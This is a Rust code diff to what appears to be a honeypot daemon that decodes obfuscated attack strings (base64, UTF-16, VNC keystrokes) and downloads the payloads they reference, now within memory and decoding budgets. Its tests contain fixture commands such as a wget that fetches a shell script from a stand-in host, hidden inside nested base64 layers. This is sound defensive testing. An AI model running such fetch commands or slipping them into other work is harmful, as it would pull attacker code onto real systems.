@@ -27,19 +27,22 @@ use super::download::{ftp, http, tftp, Context, Error, Fetched, Limits, Policy};
 use super::extract;
 use super::request::{Request, Scheme};
 use crate::attack::{Attack, Download, Payload};
+use crate::budget::Charge;
 use crate::config::{Config, Plugin};
+use crate::log::Throttle;
 use crate::sys::net::interface_addrs;
 use crate::{log_info, log_noisy, log_notice, log_warn};
-use std::collections::VecDeque;
 use std::net::{IpAddr, SocketAddr};
 use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};
 use std::sync::{Condvar, Mutex};
 use std::time::{Duration, Instant};
 
+/// Most bytes the decoders derive from one attack, every string and nesting level together:
+/// decoding goes as deep as the encodings go, until this budget (or the daemon's memory
+/// budget for attack data) is spent.
+pub const DECODE_BUDGET: usize = 16 << 20;
 /// Most strings derived from one attack by the decoders (nested decoding included).
-pub const MAX_DERIVED: usize = 16;
-/// Deepest nesting of decoders (a base64 body inside a UTF-16 string inside …).
-pub const MAX_DECODE_DEPTH: usize = 3;
+pub const MAX_DERIVED: usize = 64;
 
 /// Which decoders run (`plugin-b64Decode`, `plugin-deUnicode`, `plugin-vncDownload`).
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
@@ -49,56 +52,107 @@ pub struct Decoders {
     pub vnc: bool,
 }
 
+/// The strings derived so far and what is left of the budgets.
+struct Derived<'c> {
+    out: Vec<Vec<u8>>,
+    /// Bytes of [`DECODE_BUDGET`] left.
+    left: usize,
+    /// Pays for `out` in the daemon's memory budget.
+    charge: &'c mut Charge,
+    /// Strings not kept for want of budget (or beyond [`MAX_DERIVED`]).
+    left_out: usize,
+}
+
+impl Derived<'_> {
+    /// The largest string that could still be kept.
+    fn room(&self) -> usize {
+        if self.out.len() >= MAX_DERIVED {
+            0
+        } else {
+            self.left
+        }
+    }
+
+    /// Keeps `d` if it is new and the budgets allow; returns whether it was kept.
+    fn push(&mut self, d: Vec<u8>, original: &[u8]) -> bool {
+        if d.is_empty() || d == original || self.out.contains(&d) {
+            return false;
+        }
+        if d.len() > self.room() || !self.charge.try_grow(d.len()) {
+            self.left_out += 1;
+            return false;
+        }
+        self.left -= d.len();
+        self.out.push(d);
+        true
+    }
+}
+
 impl Decoders {
-    /// The strings the decoders derive from `data`, breadth first, nested up to
-    /// [`MAX_DECODE_DEPTH`] levels, at most [`MAX_DERIVED`] of them; each is logged as the
-    /// C plugins did.
-    pub fn derive(&self, data: &[u8]) -> Vec<Vec<u8>> {
-        let mut out: Vec<Vec<u8>> = Vec::new();
-        let mut queue: VecDeque<(Vec<u8>, usize)> = VecDeque::new();
-        let push = |d: Vec<u8>, depth: usize, out: &mut Vec<Vec<u8>>, queue: &mut VecDeque<(Vec<u8>, usize)>| {
-            if out.len() < MAX_DERIVED && !d.is_empty() && d != data && !out.contains(&d) {
-                out.push(d.clone());
-                if depth < MAX_DECODE_DEPTH {
-                    queue.push_back((d, depth));
-                }
-            }
-        };
+    /// The strings the decoders derive from `data`, breadth first, each one decoded again in
+    /// turn, as long as [`DECODE_BUDGET`], [`MAX_DERIVED`] and the daemon's memory budget
+    /// (through `charge`, which pays for the strings returned) allow; each is logged as the
+    /// C plugins did, and strings left out for want of budget are logged too.
+    pub fn derive(&self, data: &[u8], charge: &mut Charge) -> Vec<Vec<u8>> {
+        self.derive_within(data, charge, DECODE_BUDGET)
+    }
+
+    /// [`Decoders::derive`] with a decoding budget of `budget` bytes.
+    fn derive_within(&self, data: &[u8], charge: &mut Charge, budget: usize) -> Vec<Vec<u8>> {
+        let mut d = Derived { out: Vec::new(), left: budget, charge, left_out: 0 };
         // The VNC session is only recognised in the original string (it starts with the
         // protocol banner).
         if self.vnc {
-            if let Some(keys) = decode::vnc_keystrokes(data) {
+            if let Some(keys) = decode::vnc_keystrokes(data).filter(|k| k.len() <= d.room()) {
                 log_info!("vncDownload - Keystrokes found in VNC session, {} bytes reconstructed.", keys.len());
-                push(keys, 1, &mut out, &mut queue);
+                d.push(keys, data);
             }
         }
-        self.decode_one(data, 1, &mut |d, depth| push(d, depth, &mut out, &mut queue));
-        while let Some((d, depth)) = queue.pop_front() {
-            let mut found = Vec::new();
-            self.decode_one(&d, depth + 1, &mut |x, dd| found.push((x, dd)));
-            for (x, dd) in found {
-                push(x, dd, &mut out, &mut queue);
+        self.decode_one(data, &mut d, data);
+        // Every string kept is decoded once, in the order found.
+        let mut next = 0;
+        while next < d.out.len() {
+            let s = std::mem::take(&mut d.out[next]);
+            self.decode_one(&s, &mut d, data);
+            d.out[next] = s;
+            next += 1;
+        }
+        if d.left_out > 0 {
+            static WARN: Throttle = Throttle::new(Duration::from_secs(10));
+            if let Some(more) = WARN.due() {
+                log_warn!(
+                    "Decoder - Warning - {} decoded strings of an attack not analysed: decoding budget ({} bytes, {} strings) or memory budget spent ({} more since the last warning).",
+                    d.left_out,
+                    budget,
+                    MAX_DERIVED,
+                    more
+                );
             }
         }
-        out
+        d.out
     }
 
-    fn decode_one(&self, data: &[u8], depth: usize, emit: &mut dyn FnMut(Vec<u8>, usize)) {
+    /// Runs the decoders over `s` once, keeping what they find in `d`.
+    fn decode_one(&self, s: &[u8], d: &mut Derived<'_>, original: &[u8]) {
         if self.b64 {
-            let blobs: Vec<Vec<u8>> =
-                decode::negotiate_blobs(data).into_iter().chain(decode::base64_runs(data)).collect();
-            if !blobs.is_empty() {
+            let (blobs, over) = decode::negotiate_blobs_within(s, d.room());
+            let (runs, over_runs) = decode::base64_runs_within(s, d.room());
+            d.left_out += over + over_runs;
+            if !blobs.is_empty() || !runs.is_empty() {
                 log_info!("Base64 decoder - Encoded attack string found, trying to decode.");
                 log_info!("Base64 decoder - Calling plugins for decoded attack.");
             }
-            for b in blobs {
-                emit(b, depth);
+            for b in blobs.into_iter().chain(runs) {
+                d.push(b, original);
             }
         }
-        if self.unicode {
-            if let Some(d) = decode::de_unicode(data) {
+        if self.unicode && decode::looks_utf16(s) {
+            // UTF-16 halves the string: decoded only when the half fits.
+            if s.len().div_ceil(2) > d.room() {
+                d.left_out += 1;
+            } else if let Some(u) = decode::de_unicode(s) {
                 log_noisy!("deUnicode - Attack string seems to contain unicode encoded data, decoding it.");
-                emit(d, depth);
+                d.push(u, original);
             }
         }
     }
@@ -112,9 +166,46 @@ pub enum Note<'a> {
     Failed(&'a str, &'a str),
 }
 
+/// A count shared by the threads of the daemon, kept under a cap by waiting for room.
+struct Gate {
+    used: Mutex<usize>,
+    freed: Condvar,
+}
+
+impl Gate {
+    const fn new() -> Gate {
+        Gate { used: Mutex::new(0), freed: Condvar::new() }
+    }
+
+    /// Adds `weight` once the count stays within `cap` with it, waiting until `deadline`;
+    /// `false` (nothing added) when there was no room in time.
+    fn enter(&self, weight: usize, cap: usize, deadline: Instant) -> bool {
+        let mut n = self.used.lock().unwrap_or_else(|e| e.into_inner());
+        while *n + weight > cap {
+            let left = deadline.saturating_duration_since(Instant::now());
+            if left.is_zero() {
+                return false;
+            }
+            n = self.freed.wait_timeout(n, left).unwrap_or_else(|e| e.into_inner()).0;
+        }
+        *n += weight;
+        true
+    }
+
+    /// Adds `weight` whatever the cap.
+    fn add(&self, weight: usize) {
+        *self.used.lock().unwrap_or_else(|e| e.into_inner()) += weight;
+    }
+
+    fn leave(&self, weight: usize) {
+        let mut n = self.used.lock().unwrap_or_else(|e| e.into_inner());
+        *n = n.saturating_sub(weight);
+        self.freed.notify_all();
+    }
+}
+
 /// Download slots shared by every attack of the daemon (`downloads_in_flight`).
-static IN_FLIGHT: Mutex<usize> = Mutex::new(0);
-static SLOT_FREED: Condvar = Condvar::new();
+static IN_FLIGHT: Gate = Gate::new();
 
 /// A running download's slot; freed when dropped.
 struct Slot;
@@ -122,24 +213,13 @@ struct Slot;
 impl Slot {
     /// Takes a slot if fewer than `max` downloads run, waiting until `deadline` for one.
     fn acquire(max: usize, deadline: Instant) -> Option<Slot> {
-        let mut n = IN_FLIGHT.lock().unwrap_or_else(|e| e.into_inner());
-        while *n >= max {
-            let left = deadline.saturating_duration_since(Instant::now());
-            if left.is_zero() {
-                return None;
-            }
-            n = SLOT_FREED.wait_timeout(n, left).unwrap_or_else(|e| e.into_inner()).0;
-        }
-        *n += 1;
-        Some(Slot)
+        IN_FLIGHT.enter(1, max, deadline).then_some(Slot)
     }
 }
 
 impl Drop for Slot {
     fn drop(&mut self) {
-        let mut n = IN_FLIGHT.lock().unwrap_or_else(|e| e.into_inner());
-        *n = n.saturating_sub(1);
-        SLOT_FREED.notify_one();
+        IN_FLIGHT.leave(1);
     }
 }
 
@@ -232,7 +312,8 @@ impl Downloader {
     }
 
     /// Fetches what `requests` ask for, within the caps, and attaches every non-empty file
-    /// to `attack` (counting attempts in `dl_tries`).
+    /// to `attack` (counting attempts in `dl_tries`), charged to the attack's share of the
+    /// memory budget; a file the budget has no room for is not kept, with a warning.
     pub fn run(&self, attack: &mut Attack, requests: Vec<Request>, notes: &(dyn Fn(Note) + Sync)) {
         let mut requests: Vec<Request> = requests.into_iter().filter(|r| self.enabled(r.scheme)).collect();
         if requests.len() > self.max_per_attack {
@@ -250,7 +331,9 @@ impl Downloader {
 
         // The fetches run on up to PARALLEL_PER_ATTACK threads (a server that does not
         // answer must not hold up the others); the files are attached in command order.
-        let results: Vec<Mutex<Option<Result<Download, String>>>> = requests.iter().map(|_| Mutex::new(None)).collect();
+        type Fetch = Result<(Download, Charge), String>;
+        let results: Vec<Mutex<Option<Fetch>>> = requests.iter().map(|_| Mutex::new(None)).collect();
+        let budget = attack.charge.sibling();
         let next = AtomicUsize::new(0);
         let tries = AtomicU32::new(0);
         let work = || loop {
@@ -285,6 +368,15 @@ impl Downloader {
                 Scheme::Http | Scheme::Https => self.run_http(req, &ctx),
                 Scheme::Inline => continue,
             };
+            let result = result.and_then(|dl| {
+                let mut charge = budget.sibling();
+                if charge.try_grow(dl.payload.len()) {
+                    Ok((dl, charge))
+                } else {
+                    not_kept(&uri, dl.payload.len());
+                    Err("memory budget exhausted".to_string())
+                }
+            });
             if let Err(reason) = &result {
                 notes(Note::Failed(&uri, reason));
             }
@@ -300,12 +392,13 @@ impl Downloader {
             work();
         });
         attack.dl_tries += tries.into_inner();
-        for (req, result) in requests.iter().zip(results) {
+        for (req, result) in requests.into_iter().zip(results) {
             if req.scheme == Scheme::Inline {
                 attach_inline(attack, req);
                 continue;
             }
-            if let Some(Ok(dl)) = result.into_inner().unwrap_or_else(|e| e.into_inner()) {
+            if let Some(Ok((dl, charge))) = result.into_inner().unwrap_or_else(|e| e.into_inner()) {
+                attack.charge.absorb(charge);
                 match req.scheme {
                     Scheme::Ftp => log_notice!("FTP download - {} attached to attack record.", req.filename),
                     Scheme::Tftp => log_notice!("TFTP download - {} attached to attack record.", req.filename),
@@ -439,9 +532,27 @@ fn download(req: &Request, f: Fetched, dl_type: &str) -> Option<Download> {
     })
 }
 
+/// A downloaded file the memory budget has no room for: `Download - Warning - ...`, at most
+/// once a second.
+fn not_kept(uri: &str, len: usize) {
+    static WARN: Throttle = Throttle::new(Duration::from_secs(1));
+    if let Some(more) = WARN.due() {
+        log_warn!(
+            "Download - Warning - {} ({} bytes) not kept: memory budget for attack data exhausted ({} more since the last warning).",
+            uri,
+            len,
+            more
+        );
+    }
+}
+
 /// A file the attack wrote itself: attached as type `inline`, from the attacker.
-fn attach_inline(attack: &mut Attack, req: &Request) {
+fn attach_inline(attack: &mut Attack, req: Request) {
     if req.data.is_empty() {
+        return;
+    }
+    if !attack.charge.try_grow(req.data.len()) {
+        not_kept(&req.uri(), req.data.len());
         return;
     }
     log_notice!(
@@ -454,17 +565,57 @@ fn attach_inline(attack: &mut Attack, req: &Request) {
         remote: Some(attack.remote),
         user: None,
         pass: None,
-        filename: Some(req.filename.clone()).filter(|n| !n.is_empty()),
         uri: Some(req.uri()),
-        payload: Payload::new(req.data.clone()),
+        filename: Some(req.filename).filter(|n| !n.is_empty()),
+        payload: Payload::new(req.data),
     });
 }
 
+/// Bytes of attack strings in the command extractor at once, daemon-wide: one full window
+/// and some small strings beside it. The extractor works on one window of at most
+/// [`extract::WINDOW`] bytes at a time and needs up to about 25 times that much memory for
+/// it (hostile input; ordinary text far less), so this bounds its memory whatever the
+/// number of connections that end at the same moment.
+pub const EXTRACTING_MAX: usize = extract::WINDOW + extract::OVERLAP;
+/// Longest wait for room in the extractor; after it the string is extracted anyway.
+const EXTRACTING_WAIT: Duration = Duration::from_secs(60);
+static EXTRACTING: Gate = Gate::new();
+
+/// A string's share of [`EXTRACTING_MAX`] while it is in the extractor.
+struct Extracting(usize);
+
+impl Extracting {
+    /// Waits (at most [`EXTRACTING_WAIT`]) until a string of `len` bytes fits.
+    fn enter(len: usize) -> Extracting {
+        let weight = len.min(extract::WINDOW);
+        if !EXTRACTING.enter(weight, EXTRACTING_MAX, Instant::now() + EXTRACTING_WAIT) {
+            static WARN: Throttle = Throttle::new(Duration::from_secs(60));
+            if let Some(more) = WARN.due() {
+                log_warn!(
+                    "Download - Warning - Command extraction waited {} seconds for memory, going ahead ({} more since the last warning).",
+                    EXTRACTING_WAIT.as_secs(),
+                    more
+                );
+            }
+            EXTRACTING.add(weight);
+        }
+        Extracting(weight)
+    }
+}
+
+impl Drop for Extracting {
+    fn drop(&mut self) {
+        EXTRACTING.leave(self.0);
+    }
+}
+
 /// The ANALYZE stage as a whole: every string (the attack and what the decoders derived
-/// from it) through the extractor, duplicates dropped, then the downloads.
+/// from it) through the extractor ([`EXTRACTING_MAX`] bytes at a time, daemon-wide),
+/// duplicates dropped, then the downloads.
 pub fn requests_of(data: &[u8], derived: &[Vec<u8>]) -> Vec<Request> {
     let mut out: Vec<Request> = Vec::new();
     for s in std::iter::once(data).chain(derived.iter().map(Vec::as_slice)) {
+        let _room = Extracting::enter(s.len());
         for r in extract::extract(s) {
             if !out.contains(&r) {
                 out.push(r);
@@ -539,7 +690,8 @@ mod tests {
             format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", decode::base64_encode(inner.as_bytes()));
         let utf16: Vec<u8> = http.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
         let all = Decoders { b64: true, unicode: true, vnc: true };
-        let derived = all.derive(&utf16);
+        let none = &mut Charge::none();
+        let derived = all.derive(&utf16, none);
         // UTF-16 first, then the base64 body inside it.
         assert_eq!(derived.first().map(Vec::as_slice), Some(http.as_bytes()));
         assert!(derived.iter().any(|d| d == inner.as_bytes()), "{derived:?}");
@@ -547,12 +699,51 @@ mod tests {
         assert_eq!(reqs.len(), 1, "{reqs:?}");
         assert_eq!((reqs[0].host.as_str(), reqs[0].path.as_str()), ("192.0.2.9", "/a.sh"));
         // Without deUnicode the base64 body stays hidden in the UTF-16 string.
-        assert!(Decoders { unicode: false, ..all }.derive(&utf16).is_empty());
-        assert!(Decoders::default().derive(http.as_bytes()).is_empty());
+        assert!(Decoders { unicode: false, ..all }.derive(&utf16, none).is_empty());
+        assert!(Decoders::default().derive(http.as_bytes(), none).is_empty());
         // VNC: key-down/key-up pairs after the banner.
         let mut vnc = b"RFB 003.008\n".to_vec();
         vnc.extend(inner.bytes().flat_map(|c| [c, c]));
-        assert_eq!(Decoders { vnc: true, ..Decoders::default() }.derive(&vnc), [inner.as_bytes().to_vec()]);
+        assert_eq!(Decoders { vnc: true, ..Decoders::default() }.derive(&vnc, none), [inner.as_bytes().to_vec()]);
+    }
+
+    /// `levels` layers of base64, each one embedded in a line of text.
+    fn nested_base64(cmd: &str, levels: usize, pad: usize) -> Vec<u8> {
+        let mut s = format!("{cmd} #{}", "p".repeat(pad));
+        for _ in 0..levels {
+            s = format!("data={}\n", decode::base64_encode(s.as_bytes()));
+        }
+        s.into_bytes()
+    }
+
+    #[test]
+    fn nested_encodings_are_followed_at_any_depth_within_the_budget() {
+        let b64 = Decoders { b64: true, ..Decoders::default() };
+        let cmd = "wget http://192.0.2.7/deep.sh";
+        for levels in [4, 5, 9] {
+            let a = nested_base64(cmd, levels, 0);
+            let derived = b64.derive(&a, &mut Charge::none());
+            assert_eq!(derived.len(), levels, "{levels} levels");
+            let reqs = requests_of(&a, &derived);
+            assert_eq!(reqs.len(), 1, "{levels} levels: {reqs:?}");
+            assert_eq!(reqs[0].path, "/deep.sh");
+        }
+        // A big nest: decoding stops once the next layer no longer fits the decoding budget
+        // (the outer layers are kept), and the strings are charged to the memory budget.
+        let within = 64 << 10;
+        let big = nested_base64(cmd, 4, within / 3);
+        let budget = crate::budget::Budget::new(1 << 30);
+        let mut charge = budget.charge();
+        let derived = b64.derive_within(&big, &mut charge, within);
+        let total: usize = derived.iter().map(Vec::len).sum();
+        assert_eq!(derived.len(), 1, "only the outer layer fits");
+        assert!(total <= within && charge.bytes() == total && budget.used() == total);
+        drop(derived);
+        drop(charge);
+        assert_eq!(budget.used(), 0);
+        // The memory budget: nothing derived when it has no room.
+        let tight = crate::budget::Budget::new(16);
+        assert!(b64.derive(&nested_base64(cmd, 2, 0), &mut tight.charge()).is_empty());
     }
 
     #[test]
@@ -572,6 +763,62 @@ mod tests {
         drop(b);
         assert!(waiter.join().unwrap());
         drop(c);
+    }
+
+    #[test]
+    fn the_extractor_takes_a_bounded_amount_of_input_at_once() {
+        // A full window and the rest fill it; another string waits until one leaves.
+        let a = Extracting::enter(10 * extract::WINDOW);
+        let b = Extracting::enter(extract::OVERLAP);
+        assert_eq!((a.0, b.0), (extract::WINDOW, extract::OVERLAP));
+        let (tx, rx) = std::sync::mpsc::channel();
+        let waiter = std::thread::spawn(move || {
+            let c = Extracting::enter(1);
+            tx.send(()).unwrap();
+            drop(c);
+        });
+        assert!(rx.recv_timeout(Duration::from_millis(200)).is_err(), "entered while full");
+        drop(a);
+        assert!(rx.recv_timeout(Duration::from_secs(5)).is_ok(), "woken when room was made");
+        waiter.join().unwrap();
+        drop(b);
+    }
+
+    #[test]
+    fn attached_files_are_charged_to_the_memory_budget() {
+        let cfg = crate::config::load_str(
+            "plugin-tftpDownload = \"\"",
+            std::path::Path::new("t.conf"),
+            std::path::Path::new("/"),
+        )
+        .unwrap();
+        let d = Downloader::from_config(&cfg).unwrap().unwrap();
+        let inline = || Request {
+            filename: "x.bin".into(),
+            data: vec![0x7f; 100],
+            ..Request::new(Scheme::Inline, "", None, "")
+        };
+        let budget = crate::budget::Budget::new(150);
+        let attack = || {
+            let mut a = Attack::new(
+                crate::config::Proto::Tcp,
+                "10.0.0.1:23".parse().unwrap(),
+                "10.0.0.2:4000".parse().unwrap(),
+                crate::config::Mode::Normal,
+                std::time::SystemTime::now(),
+            );
+            a.charge = budget.charge();
+            a
+        };
+        let mut a = attack();
+        d.run(&mut a, vec![inline()], &|_| {});
+        assert_eq!((a.downloads.len(), a.charge.bytes(), budget.used()), (1, 100, 100));
+        // No room for a second one while the first record lives.
+        let mut b = attack();
+        d.run(&mut b, vec![inline()], &|_| {});
+        assert_eq!((b.downloads.len(), budget.used()), (0, 100));
+        drop((a, b));
+        assert_eq!(budget.used(), 0);
     }
 
     #[test]
